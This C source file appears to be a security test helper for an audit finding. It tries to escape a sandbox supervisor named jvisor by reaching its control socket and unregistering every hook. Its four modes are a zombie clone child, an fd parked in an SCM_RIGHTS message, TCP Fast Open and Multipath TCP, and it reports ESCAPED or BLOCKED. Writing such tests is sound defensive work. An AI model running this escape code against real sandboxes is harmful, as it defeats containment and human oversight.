/* Attack helper (issue 13, finding 5): reach jvisor's control socket from
 * inside the sandbox and unregister every hook.
 *   esc_ctl zombie ADDR        a CLONE_VM|CLONE_FILES child connects to the unix
 *                              socket ADDR (a path, @NAME, or "auto": the first
 *                              @jvisor-ctl.* of /proc/net/unix) and exits
 *                              unreaped; the parent then uses the connection
 *   esc_ctl park PORT TOKEN    connect to 127.0.0.1:PORT and park the connected
 *                              fd in a pending SCM_RIGHTS message while jvisor
 *                              looks at the sandbox's fds, then take it back
 *   esc_ctl tfo PORT TOKEN     connect with sendto(MSG_FASTOPEN)
 *   esc_ctl mptcp PORT TOKEN   connect with a Multipath TCP socket
 * TOKEN is the token file. Prints ESCAPED and exits 1 when jvisor answered "ok";
 * BLOCKED and exit 0 when the connection was refused or jvisor refused it. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

static char token[128];
static char req[512];
static volatile int shared_fd = -1;
static struct sockaddr_un ua;
static socklen_t ua_len;

/* Send the request, read one answer line: 1 if it is an ok answer. */
static int ask(int fd, int sent)
{
	size_t n = strlen(req);
	if (!sent && send(fd, req, n, MSG_NOSIGNAL) != (ssize_t)n) {
		printf("BLOCKED send: %s\n", strerror(errno));
		return 0;
	}
	char buf[4096];
	size_t got = 0;
	while (got < sizeof(buf) - 1 && !memchr(buf, '\n', got)) {
		struct pollfd p = {fd, POLLIN, 0};
		if (poll(&p, 1, 5000) <= 0)
			break;
		ssize_t r = recv(fd, buf + got, sizeof(buf) - 1 - got, 0);
		if (r <= 0)
			break;
		got += (size_t)r;
	}
	buf[got] = 0;
	printf("answer: %s%s", buf, got && buf[got - 1] == '\n' ? "" : "\n");
	return strstr(buf, "\"type\": \"ok\"") || strstr(buf, "\"type\":\"ok\"");
}

static int child_connect(void *arg)
{
	(void)arg;
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&ua, ua_len) < 0) {
		printf("BLOCKED connect: %s\n", strerror(errno));
		close(fd);
		return 0;
	}
	shared_fd = fd;
	return 0;
}

static int zombie(const char *addr)
{
	char name[108] = "";
	if (!strcmp(addr, "auto")) {
		FILE *f = fopen("/proc/net/unix", "r");
		char line[512];
		while (f && fgets(line, sizeof(line), f)) {
			char *at = strstr(line, "@jvisor-ctl.");
			if (at) {
				at[strcspn(at, "\n")] = 0;
				snprintf(name, sizeof(name), "%s", at);
				break;
			}
		}
		if (f)
			fclose(f);
		if (!name[0]) {
			printf("BLOCKED no @jvisor-ctl socket visible\n");
			return 0;
		}
	} else {
		snprintf(name, sizeof(name), "%s", addr);
	}
	ua.sun_family = AF_UNIX;
	strcpy(ua.sun_path, name);
	ua_len = sizeof(ua);
	if (name[0] == '@') {
		ua.sun_path[0] = 0;
		ua_len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(name));
	}
	/* Tries: the first one at once, often before jvisor serves (the
	 * connection waits in the backlog while jvisor reaps the child). */
	for (int i = 0; i < 20; i++) {
		static char stack[1 << 16];
		shared_fd = -1;
		pid_t c = clone(child_connect, stack + sizeof(stack),
				CLONE_VM | CLONE_FILES | SIGCHLD, NULL);
		if (c < 0) {
			printf("BLOCKED clone: %s\n", strerror(errno));
			return 0;
		}
		usleep(300000); /* a zombie by now; jvisor has seen it exit */
		if (shared_fd < 0)
			return 0;
		int ok = ask(shared_fd, 0);
		close(shared_fd);
		waitpid(c, NULL, 0);
		if (ok) {
			printf("ESCAPED after %d tries\n", i + 1);
			return 1;
		}
	}
	printf("BLOCKED by jvisor 20 times\n");
	return 0;
}

static int tcp_socket(int proto)
{
	return socket(AF_INET, SOCK_STREAM, proto);
}

static int park(struct sockaddr_in *sa)
{
	for (int i = 0; i < 30; i++) {
		int fd = tcp_socket(0);
		if (connect(fd, (struct sockaddr *)sa, sizeof(*sa)) < 0) {
			printf("BLOCKED connect: %s\n", strerror(errno));
			return 0;
		}
		int sv[2];
		socketpair(AF_UNIX, SOCK_STREAM, 0, sv);
		union {
			char b[CMSG_SPACE(sizeof(int))];
			struct cmsghdr align;
		} u;
		char c = 'x';
		struct iovec iov = {&c, 1};
		struct msghdr mh = {.msg_iov = &iov,
				    .msg_iovlen = 1,
				    .msg_control = u.b,
				    .msg_controllen = sizeof(u.b)};
		struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
		cm->cmsg_level = SOL_SOCKET;
		cm->cmsg_type = SCM_RIGHTS;
		cm->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(cm), &fd, sizeof(int));
		sendmsg(sv[0], &mh, 0);
		close(fd); /* only the pending message holds it now */
		usleep(300000);
		if (recvmsg(sv[1], &mh, 0) < 0) {
			printf("BLOCKED recvmsg: %s\n", strerror(errno));
			return 0;
		}
		memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&mh)), sizeof(int));
		close(sv[0]);
		close(sv[1]);
		int ok = ask(fd, 0);
		close(fd);
		if (ok) {
			printf("ESCAPED after %d tries\n", i + 1);
			return 1;
		}
	}
	printf("BLOCKED by jvisor 30 times\n");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc < 3)
		return 2;
	const char *mode = argv[1];
	if (argc > 3) {
		FILE *f = fopen(argv[3], "r");
		if (!f || !fgets(token, sizeof(token), f)) {
			printf("BLOCKED token file %s: %s\n", argv[3], strerror(errno));
			return 0;
		}
		fclose(f);
		token[strcspn(token, "\r\n")] = 0;
	}
	snprintf(req, sizeof(req),
		 "{\"type\":\"unregister-hooks\",\"payload\":{\"options\":\"all\"},"
		 "\"token\":\"%s\"}\n",
		 token);
	if (!strcmp(mode, "zombie"))
		return zombie(argv[2]);
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2]))};
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (!strcmp(mode, "park"))
		return park(&sa);
	int fd = tcp_socket(!strcmp(mode, "mptcp") ? 262 : 0);
	if (fd < 0) {
		printf("BLOCKED socket: %s\n", strerror(errno));
		return 0;
	}
	int sent = 0;
	if (!strcmp(mode, "tfo")) {
		ssize_t n =
		    sendto(fd, req, strlen(req), MSG_FASTOPEN, (struct sockaddr *)&sa, sizeof(sa));
		if (n < 0) {
			printf("BLOCKED sendto(MSG_FASTOPEN): %s\n", strerror(errno));
			return 0;
		}
		sent = 1;
	} else if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		printf("BLOCKED connect: %s\n", strerror(errno));
		return 0;
	}
	int ok = ask(fd, sent);
	printf("%s\n", ok ? "ESCAPED" : "BLOCKED by jvisor");
	return ok;
}
